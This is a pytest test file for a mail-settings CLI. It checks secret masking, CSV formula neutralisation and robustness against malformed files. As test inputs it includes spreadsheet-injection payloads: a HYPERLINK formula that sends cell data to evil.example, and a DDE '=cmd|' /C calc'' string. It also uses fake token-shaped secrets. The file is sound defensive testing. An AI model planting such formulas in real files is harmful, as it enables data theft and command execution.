"""Issue 11's bad files and hostile input, each through the real command line against a real file.

Points covered here: migrate never echoes a secret (credentials in hosts and URLs, folded INI
lines, password keys in other languages or with look-alike letters, secret-looking values);
``audit --sql`` never prints a password; a profile import refuses anything but a complete
profile, shows a dry run and takes a backup; users CSV exports neutralise formulas and import
them back losslessly; crashes on huge numbers, deep nesting, NUL bytes and UTF-16 without a
byte-order mark; and a closed pipe ends ``mailkit --json … | head`` quietly.
"""

# Look-alike letters are this file's test data.
# ruff: noqa: RUF001

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_canary import CANARY, assert_clean, encoded_forms

from mailkit.cli import EXIT_BROKEN_PIPE, EXIT_OK, EXIT_USAGE, main
from mailkit.credentials import SECRET_WORDS, hide_credentials, secret_name, skeleton
from mailkit.legacy import HIDDEN, migrate
from mailkit.secrets import MemorySecretStore
from mailkit.settings import OrgSettings, Profile, UserSettings
from mailkit.store import Store, profile_to_toml
from mailkit.users import FORMULA_TRIGGERS, neutralise_cell, read_users, restore_cell

#: A canary without URL syntax (no '#', '!'), so that a URL parser cannot cut it in two.
URL_CANARY = "canaryZq9k7Vx2urlpw"


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def assert_no_secret(where: str, text: str, secret: str) -> None:
    blob = text.encode()
    for form in encoded_forms(secret):
        assert form not in blob, f"{secret!r} leaked into {where} as {form!r}"


def migrate_outputs(path: Path) -> tuple[int, str]:
    """Text and JSON output (stdout and stderr) of ``mailkit migrate``."""
    code, out, err = run("migrate", str(path), "--secrets", "memory")
    json_code, json_out, json_err = run("migrate", str(path), "--secrets", "memory", "--json")
    assert code == json_code
    return code, out + err + json_out + json_err


# --------------------------------------------------------------------------- 5: migrate


@pytest.mark.parametrize(
    "host",
    [
        f"jordan:{CANARY}@mail.example.com",
        f"smtp://jordan:{CANARY}@mail.example.com:587",
        f"smtps://jordan:{CANARY}@mail.example.com/",
        f"mail.example.com;Password={CANARY}",
        f"mail.example.com?password={CANARY}&x=1",
        f"//:{CANARY}@mail.example.com",
    ],
)
def test_migrate_masks_credentials_in_a_host(tmp_path: Path, host: str) -> None:
    legacy = tmp_path / "legacy.ini"
    legacy.write_text(f"[Mail]\nSMTPServerName = {host}\nPort = 587\n", encoding="utf-8")
    code, output = migrate_outputs(legacy)
    assert code == EXIT_OK
    assert_clean("migrate output", output)
    assert "mail.example.com" in output  # the rest stays, so the admin sees what was meant


def test_an_indented_ini_line_is_not_folded_into_the_previous_key(tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.ini"
    legacy.write_text(
        f"[Mail]\nSMTPServerName = mail.example.com\n    Password = {CANARY}\n  Port = 587\n",
        encoding="utf-8",
    )
    code, output = migrate_outputs(legacy)
    assert code == EXIT_OK
    assert_clean("migrate output", output)
    secrets = MemorySecretStore()
    migration = migrate(legacy, secrets=secrets)
    assert migration.org.host == "mail.example.com"
    assert migration.org.port == 587
    assert migration.moved_secrets  # the indented password line is the password, moved away
    stored = secrets.get(migration.moved_secrets[0])
    assert stored is not None
    assert stored.reveal() == CANARY


def test_an_indented_line_without_a_key_is_refused_by_line_number(tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.ini"
    legacy.write_text(f"[Mail]\nSMTPServerName = mail.example.com\n    {CANARY}\n")
    code, out, err = run("migrate", str(legacy), "--secrets", "memory")
    assert code == EXIT_USAGE
    assert "line 3 is" in err
    assert str(legacy) in err
    assert_clean("migrate error", out + err)


PASSWORD_NAMES = [
    "Kennwort",
    "Passwort",
    "Contraseña",
    "contrasena",
    "mot de passe",
    "Mot_de_passe",
    "SMTPAuthString",
    "P\u0430ssword",  # Cyrillic a
    "\u0420assword",  # Cyrillic Er
    "\u03a1\u0391SSWORD",  # Greek Rho, Alpha
    "Ｐａｓｓｗｏｒｄ",  # fullwidth
    "Pass\u200bwort",  # a zero-width space inside
    "P@ssw0rd",
    "Hasło",
    "Wachtwoord",
    "Lösenord",
    "Senha",
    "Пароль",
    "密码",
    "パスワード",
    "SMTP_PW",
]


@pytest.mark.parametrize("name", PASSWORD_NAMES)
def test_unknown_password_keys_in_any_language_or_spelling_are_hidden(
    tmp_path: Path, name: str
) -> None:
    legacy = tmp_path / "legacy.json"
    # A value that would be shown if it were judged by its look alone.
    legacy.write_text(
        json.dumps({"Mail": {"SMTPServerName": "mail.example.com", name: "sunshine"}}),
        encoding="utf-8",
    )
    migration = migrate(legacy)
    row = migration.report[migration.report["old_key"] == name].iloc[0]
    assert row["old_value"] == HIDDEN
    assert "the name suggests a secret" in row["note"]
    code, output = migrate_outputs(legacy)
    assert code == EXIT_OK
    assert "sunshine" not in output


def test_a_lookalike_of_a_known_key_is_named_as_such() -> None:
    migration = migrate({"P\u0430ssword": CANARY, "Port": 587})  # no store needed: not taken
    assert not migration.moved_secrets
    note = migration.report.iloc[0]["note"]
    assert "looks like Password" in note
    assert_clean("report", migration.report.to_csv() + repr(migration))


@pytest.mark.parametrize(
    "value",
    [
        CANARY,
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "geheim123",
        "d41d8cd98f00b204e9800998ecf8427e",
        base64.b64encode(b"jordan:hunter2").decode(),
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFU",
    ],
)
def test_unknown_keys_with_secret_looking_values_are_hidden(value: str) -> None:
    migration = migrate({"Extra": value, "Signature": "Sent from Express Maintenance"})
    shown = dict(zip(migration.report["old_key"], migration.report["old_value"], strict=True))
    assert shown == {"Extra": HIDDEN, "Signature": "Sent from Express Maintenance"}
    assert value not in migration.report.to_csv()


@given(
    word=st.sampled_from([w for w in SECRET_WORDS if w.isascii() and " " not in w]),
    data=st.data(),
)
@settings(max_examples=200, deadline=None)
def test_lookalike_spellings_of_a_secret_word_keep_its_skeleton(
    word: str, data: st.DataObject
) -> None:
    """Any mix of look-alike letters, case, fullwidth forms and invisible characters."""
    lookalikes = {
        "a": "aAаАαΑａ@4",
        "c": "cCсСｃ",
        "e": "eEеЕεΕｅ3",
        "i": "iIіІιΙｉı",
        "k": "kKкКκΚｋ",
        "o": "oOоОοΟｏ0",
        "p": "pPрРρΡｐ",
        "s": "sSѕЅｓ5$",
        "t": "tTтТτΤｔ7",
        "w": "wWԝԜｗ",
        "x": "xXхХχΧｘ",
    }
    spelled = ""
    for letter in word:
        spelled += data.draw(st.sampled_from(lookalikes.get(letter, letter + letter.upper())))
        spelled += data.draw(st.sampled_from(["", "", "", "\u200b", "\u00ad", "_", " "]))
    assert skeleton(spelled) == skeleton(word)
    assert secret_name(f"Smtp{spelled}")


def test_a_json_port_of_5000_digits_is_reported_not_a_crash(tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.json"
    legacy.write_text('{"SMTPServerName": "mail.example.com", "Port": ' + "9" * 5000 + "}")
    code, out, err = run("migrate", str(legacy), "--secrets", "none", "--json")
    assert code == EXIT_OK, err
    report = json.loads(out)["report"]
    port = next(row for row in report if row["old_key"] == "Port")
    assert "not a port number" in port["note"]
    assert len(port["old_value"]) < 200  # shown clipped, with the length said
    assert "5000 characters" in port["old_value"]


# --------------------------------------------------------------------------- 6: audit --sql


@pytest.mark.parametrize(
    "url",
    [
        f"postgres//alice:{URL_CANARY}@db/app",
        f"postgres:/alice:{URL_CANARY}@db/app",
        f"postgresql//alice:{URL_CANARY}@db:5432/app?sslmode=require",
        f"alice:{URL_CANARY}@db/app",
        f"host=db user=alice password={URL_CANARY} dbname=app",
        f"postgresql://alice:{URL_CANARY}@127.0.0.1:1/app",
        f"postgresql://alice@127.0.0.1:1/app?password={URL_CANARY}",
        f"postgresql://alice@127.0.0.1:1/app?sslpassword={URL_CANARY}",
        f"nosuchdialect://alice:{URL_CANARY}@db/app",
        f"sqlite:////nonexistent/dir/app.db?password={URL_CANARY}",
    ],
)
def test_audit_sql_never_prints_the_password(url: str) -> None:
    for extra in ((), ("--json",)):
        code, out, err = run("audit", "--sql", url, "--query", "SELECT 1", *extra)
        assert code == EXIT_USAGE
        assert err.strip(), "an error must be reported"
        assert_no_secret("audit --sql output", out + err, URL_CANARY)


def test_hide_credentials_keeps_what_is_not_secret() -> None:
    assert hide_credentials("postgres//alice:pw@db/app") == "postgres//alice:***@db/app"
    assert hide_credentials("Server=db;Uid=sa;Pwd=x;") == "Server=db;Uid=sa;Pwd=***;"
    text = "smtp.example.com:587 ann@example.com https://example.com/a?b=c"
    assert hide_credentials(text) == text


# --------------------------------------------------------------------------- 7: profile import

ANN = UserSettings(user_code="ann", email="ann@example.com")
BOB = UserSettings(user_code="bob", email="bob@example.com", override_enabled=True, port=587)


@pytest.fixture
def profile_db(tmp_path: Path) -> Path:
    folder = tmp_path / "profiles"
    folder.mkdir()
    path = folder / "acme.sqlite"
    with Store.open(path, create=True) as store:
        store.replace_profile(
            Profile(org=OrgSettings(name="acme", host="smtp.example.com"), users=[ANN, BOB])
        )
    return path


def snapshot(db: Path) -> tuple[Profile, list[str]]:
    with Store.open(db) as store:
        profile = store.profile()
    return profile, sorted(p.name for p in db.parent.iterdir())


def _deep_toml(depth: int) -> bytes:
    return b"mailkit_profile_format = 1\na = " + b"[" * depth + b"]" * depth + b"\n"


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "holds no profile"),
        (b"   \n\n", "holds no profile"),
        (b"# just a comment\n# and another\n", "holds no profile"),
        (b'[org]\nname = "x"\n\nusers = []\n', "mailkit_profile_format: is missing"),
        (b'org = {name = "x"}\nusers = []\n', "mailkit_profile_format: is missing"),
        (b"mailkit_profile_format = 1\n", "org: is missing"),
        (b'mailkit_profile_format = 1\n[org]\nname = "x"\n', "users: is missing"),
        (b"mailkit_profile_format = true\n[org]\nusers = []\n", "whole number"),
        (b"mailkit_profile_format = 0\n[org]\nusers = []\n", "whole number"),
        (b"mailkit_profile_format = 2\n", "newer mailkit"),
        (_deep_toml(5000), "nested too deeply"),
        (b"mailkit_profile_format = 1\n[org]\nport = " + b"9" * 5000 + b"\n", "number too long"),
        ("mailkit_profile_format = 1\n".encode("utf-16"), "always UTF-8"),
        ("mailkit_profile_format = 1\n".encode("utf-16-le"), "always UTF-8"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "not a text file"),
        (b"mailkit_profile_format = 1\n[org\n", "not valid TOML"),
    ],
)
def test_profile_import_refuses_anything_but_a_complete_profile(
    profile_db: Path, tmp_path: Path, content: bytes, says: str
) -> None:
    before = snapshot(profile_db)
    bytes_before = hashlib.sha256(profile_db.read_bytes()).hexdigest()
    toml = tmp_path / "incoming.toml"
    toml.write_bytes(content)
    for extra in ((), ("--dry-run",), ("--json",)):
        code, out, err = run("profile", "import", str(toml), "--profile", str(profile_db), *extra)
        assert code == EXIT_USAGE, out
        assert says in err
        assert str(toml) in err
        assert "Traceback" not in err
    assert snapshot(profile_db) == before  # no change, no backup, no new file
    assert hashlib.sha256(profile_db.read_bytes()).hexdigest() == bytes_before


def test_a_bad_profile_file_does_not_create_a_profile(tmp_path: Path) -> None:
    toml = tmp_path / "empty.toml"
    toml.write_text("# nothing\n", encoding="utf-8")
    target = tmp_path / "new.sqlite"
    code, _, err = run("profile", "import", str(toml), "--profile", str(target))
    assert code == EXIT_USAGE
    assert not target.exists()
    assert "created profile" not in err


def _edited(profile: Profile) -> Profile:
    carol = UserSettings(user_code="carol", email="carol@example.com")
    return Profile(
        org=profile.org.model_copy(update={"host": "mail.acme.example", "port": 465}),
        users=[ANN.model_copy(update={"email": "ann@acme.example"}), carol],
    )


def test_profile_import_dry_run_shows_the_difference_and_changes_nothing(
    profile_db: Path, tmp_path: Path
) -> None:
    before = snapshot(profile_db)
    toml = tmp_path / "incoming.toml"
    toml.write_text(profile_to_toml(_edited(before[0])), encoding="utf-8")
    code, out, err = run("profile", "import", str(toml), "--profile", str(profile_db), "--dry-run")
    assert code == EXIT_OK, err
    assert 'host: "smtp.example.com" -> "mail.acme.example"' in out
    assert "port: (unset) -> 465" in out
    assert "Users added (1): carol" in out
    assert "Users removed (1): bob" in out
    assert 'User ann changes:\n  email: "ann@example.com" -> "ann@acme.example"' in out
    assert "Nothing was changed." in out
    code, out, _ = run(
        "profile", "import", str(toml), "--profile", str(profile_db), "--dry-run", "--json"
    )
    changes = json.loads(out)["changes"]
    assert changes["users_added"] == ["carol"]
    assert changes["users_removed"] == ["bob"]
    assert {"field": "port", "old": None, "new": 465} in changes["org"]
    assert snapshot(profile_db) == before


def test_a_replacing_import_takes_a_backup_first_and_says_where(
    profile_db: Path, tmp_path: Path
) -> None:
    before, _files = snapshot(profile_db)
    toml = tmp_path / "incoming.toml"
    toml.write_text(profile_to_toml(_edited(before)), encoding="utf-8")
    code, out, err = run("profile", "import", str(toml), "--profile", str(profile_db), "--json")
    assert code == EXIT_OK, err
    result = json.loads(out)
    backup = Path(result["backup"])
    assert backup.parent == profile_db.parent
    assert backup.name.startswith("acme.backup-")
    assert backup.suffix == ".sqlite"
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    with Store.open(backup) as copy:
        assert copy.profile() == before  # the backup is a usable profile as it was
    with Store.open(profile_db) as store:
        assert [u.user_code for u in store.users()] == ["ann", "carol"]
    # The text output names the backup too; a second import backs up again, never overwrites.
    toml.write_text(profile_to_toml(before), encoding="utf-8")
    code, out, _ = run("profile", "import", str(toml), "--profile", str(profile_db))
    assert code == EXIT_OK
    backups = sorted(profile_db.parent.glob("acme.backup-*.sqlite"))
    assert len(backups) == 2
    assert any(str(b) in out for b in backups if b != backup)
    with Store.open(profile_db) as store:
        assert store.profile() == before


# --------------------------------------------------------------------------- 8: CSV formulas

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "'quoted",
    "''twice",
    "'=already neutralised",
    "'",
    "plain name",
]


def test_users_csv_export_neutralises_formulas_and_import_restores_them(tmp_path: Path) -> None:
    users = [
        UserSettings(user_code=f"u{i}", display_name=name, username=name)
        for i, name in enumerate(FORMULA_NAMES)
    ]
    users.append(UserSettings(user_code="=cmd|' /C calc'!A0", email="x@example.com"))
    source = tmp_path / "source.sqlite"
    with Store.open(source, create=True) as store:
        store.put_users(users)
    exported = tmp_path / "users.csv"
    code, _, err = run("users", "export", str(exported), "--profile", str(source))
    assert code == EXIT_OK, err
    raw = exported.read_text(encoding="utf-8")
    cells = [cell for line in raw.splitlines()[1:] for cell in line.split(",")]
    for cell in cells:
        assert not cell.lstrip('"').startswith(FORMULA_TRIGGERS), cell
    assert "'=HYPERLINK" in raw
    assert "'''quoted" in raw or "''quoted" in raw
    target = tmp_path / "target.sqlite"
    code, _, err = run("users", "import", str(exported), "--profile", str(target))
    assert code == EXIT_OK, err
    with Store.open(target) as store:
        assert store.users() == sorted(users, key=lambda u: u.user_code.casefold())


@given(st.text(max_size=30))
def test_neutralise_and_restore_are_inverse(text: str) -> None:
    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert restore_cell(cell) == text


@given(
    st.lists(
        st.text(
            alphabet=st.sampled_from("=+-@'\"\t,;ab Zé\u00a0"),
            min_size=1,
            max_size=12,
        ),
        min_size=1,
        max_size=5,
    )
)
@settings(max_examples=60, deadline=None)
def test_any_display_name_survives_a_csv_round_trip(names: list[str]) -> None:
    from tempfile import TemporaryDirectory

    from mailkit.settings import validate
    from mailkit.users import write_users

    users = []
    for i, name in enumerate(names):
        try:
            users.append(validate(UserSettings, {"user_code": f"u{i}", "display_name": name}))
        except ValueError:
            continue  # names the model itself refuses are not the export's business
    with TemporaryDirectory() as folder:
        path = Path(folder) / "users.csv"
        write_users(users, path)
        assert read_users(path) == users


# --------------------------------------------------------------------------- 10: crashes


def test_nul_and_control_characters_in_a_csv_cell_audit_to_xlsx(tmp_path: Path) -> None:
    source = tmp_path / "users.csv"
    source.write_bytes(
        b"user_code,display_name,email\n"
        b"a\x00nn,A\x00B,bad@@\n"
        b"b\x01\x1fob,x,bad@@\n"
        b'"=HYPERLINK(""http://evil.example"")",x,bad@@\n'
    )
    report = tmp_path / "findings.xlsx"
    code, _, err = run("audit", "--csv", str(source), "--format", "xlsx", "-o", str(report))
    assert code == EXIT_OK, err
    sheet = openpyxl.load_workbook(report).active
    assert sheet is not None
    codes = {row[0].value for row in sheet.iter_rows(min_row=2)} - {None}  # None: org findings
    assert codes == {"a\\x00nn", "b\\x01\\x1fob", '=HYPERLINK("http://evil.example")'}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "s" for cell in row if cell.value is not None)
    with zipfile.ZipFile(report) as book:
        assert all(b"<f>" not in book.read(name) for name in book.namelist())
    code, out, _ = run("audit", "--csv", str(source), "--format", "csv")
    assert code == EXIT_OK
    assert "'=HYPERLINK" in out


@pytest.mark.parametrize(
    ("encoding", "label"),
    [("utf-16-le", "UTF-16 LE"), ("utf-16-be", "UTF-16 BE"), ("cp1252", "Windows-1252")],
)
def test_csv_without_a_declared_encoding_is_read_and_the_guess_said(
    tmp_path: Path, encoding: str, label: str
) -> None:
    source = tmp_path / "users.csv"
    source.write_bytes("user_code;display_name\nzoe;Zoë Müller\nbob;Bob\n".encode(encoding))
    db = tmp_path / "p.sqlite"
    code, _, err = run("users", "import", str(source), "--profile", str(db))
    assert code == EXIT_OK, err
    assert label in err
    assert str(source) in err
    with Store.open(db) as store:
        zoe = store.get_user("zoe")
        assert zoe is not None
        assert zoe.display_name == "Zoë Müller"
    code, _, err = run("audit", "--csv", str(source), "--json")
    assert code == EXIT_OK, err
    assert label in json.loads(err)["notices"][0]


@pytest.mark.parametrize(
    ("encoding", "label"), [("utf-16-le", "UTF-16 LE"), ("utf-16-be", "UTF-16 BE")]
)
def test_a_legacy_file_in_utf16_without_a_byte_order_mark_migrates(
    tmp_path: Path, encoding: str, label: str
) -> None:
    legacy = tmp_path / "legacy.ini"
    legacy.write_bytes(
        "[Mail]\nSMTPServerName = mail.example.com\nFromName = Zoë\n".encode(encoding)
    )
    migration = migrate(legacy)
    assert migration.org.host == "mail.example.com"
    assert migration.org.from_name == "Zoë"
    assert any(label in line for line in migration.warnings)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-32", "utf-8"])
def test_declared_and_plain_utf_encodings_need_no_note(tmp_path: Path, encoding: str) -> None:
    source = tmp_path / "users.csv"
    source.write_bytes("user_code,display_name\nzoe,Zoë\n".encode(encoding))
    code, _, err = run("users", "import", str(source), "--profile", str(tmp_path / "p.sqlite"))
    assert code == EXIT_OK, err
    assert "note:" not in err


# --------------------------------------------------------------------------- 12: broken pipe


class _ClosedPipe(io.StringIO):
    def write(self, text: str) -> int:
        raise BrokenPipeError(32, "Broken pipe")

    def flush(self) -> None:
        raise BrokenPipeError(32, "Broken pipe")


def test_a_closed_pipe_ends_the_command_quietly_in_process(tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.ini"
    legacy.write_text("[Mail]\nSMTPServerName = mail.example.com\n", encoding="utf-8")
    err = io.StringIO()
    code = main(["--json", "migrate", str(legacy), "--secrets", "none"], out=_ClosedPipe(), err=err)
    assert code == EXIT_BROKEN_PIPE
    assert err.getvalue() == ""


def test_mailkit_json_piped_into_head_exits_quietly(tmp_path: Path) -> None:
    source = tmp_path / "users.csv"
    rows = ["user_code,email", *(f"u{i},bad{i}@@" for i in range(3000))]
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    exe = Path(sys.executable).with_name("mailkit")
    errors = tmp_path / "stderr.txt"
    script = (
        f'"{exe}" --json audit --csv "{source}" 2>"{errors}" | head -c 100 >/dev/null; '
        'echo "${PIPESTATUS[0]}"'
    )
    done = subprocess.run(
        ["bash", "-c", script], capture_output=True, text=True, check=True, timeout=120
    )
    assert done.stdout.strip() == str(EXIT_BROKEN_PIPE)
    assert errors.read_text() == ""  # no JSON error, no traceback, no "Exception ignored"


def test_the_console_script_never_shows_a_traceback_for_hostile_files(tmp_path: Path) -> None:
    """A few of the files above through the installed entry point, as a user runs it."""
    exe = Path(sys.executable).with_name("mailkit")
    deep = tmp_path / "deep.toml"
    deep.write_bytes(_deep_toml(100_000))
    utf16 = tmp_path / "users.csv"
    utf16.write_bytes("user_code\nann\n".encode("utf-16-le"))
    port = tmp_path / "legacy.json"
    port.write_text('{"Port": ' + "7" * 5000 + "}")
    env = {**os.environ, "XDG_DATA_HOME": str(tmp_path / "data")}
    runs = [
        (["profile", "import", str(deep), "--profile", str(tmp_path / "p.sqlite")], EXIT_USAGE),
        (["users", "import", str(utf16), "--profile", str(tmp_path / "p.sqlite")], EXIT_OK),
        (["migrate", str(port), "--secrets", "none"], EXIT_OK),
        (["audit", "--sql", f"postgres//alice:{URL_CANARY}@db/app", "--query", "x"], EXIT_USAGE),
    ]
    for argv, expected in runs:
        done = subprocess.run(
            [str(exe), *argv], capture_output=True, text=True, env=env, check=False, timeout=120
        )
        assert done.returncode == expected, done.stderr
        assert "Traceback" not in done.stderr
        assert URL_CANARY not in done.stdout + done.stderr
